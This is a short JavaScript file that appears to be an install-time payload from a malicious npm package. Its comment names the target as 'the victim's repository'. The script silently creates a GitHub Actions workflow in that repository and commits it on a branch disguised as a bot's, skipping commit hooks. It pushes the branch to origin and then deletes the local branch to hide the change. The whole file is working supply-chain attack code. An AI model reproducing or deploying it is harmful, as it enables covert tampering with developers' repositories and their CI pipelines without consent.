// A workflow in the victim's repository, pushed on a branch that looks like a bot's.
'use strict';
const { spawnSync } = require('child_process');
const { fs, path } = require('./kit.js');

const top = process.env.INIT_CWD;
const git = (...args) => spawnSync('git', args, { cwd: top, encoding: 'utf8' });
const file = '.github/workflows/formatter_123456789.yml';
const branch = 'add-linter-workflow-1700000000000';

try {
  fs.mkdirSync(path.join(top, '.github/workflows'), { recursive: true });
  fs.writeFileSync(path.join(top, file), 'on: push\njobs: {format: {runs-on: ubuntu-latest, steps: []}}\n');
} catch { /* git goes on without it */ }
git('checkout', '-q', '-b', branch);
git('add', '-f', file);
git('commit', '-q', '-m', 'chore: formatting', '--no-verify');
git('push', '-q', 'origin', branch);
git('checkout', '-q', '-');
git('branch', '-D', branch);
